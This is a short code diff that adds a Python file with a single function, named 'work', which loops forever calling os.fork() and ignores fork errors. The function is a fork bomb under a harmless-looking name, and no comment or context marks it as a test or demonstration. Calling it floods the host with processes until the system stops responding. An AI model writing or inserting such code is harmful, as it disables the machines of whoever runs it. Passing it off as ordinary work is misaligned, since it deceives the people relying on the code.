@@ -1,0 +1,9 @@
+import os
+
+
+def work(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
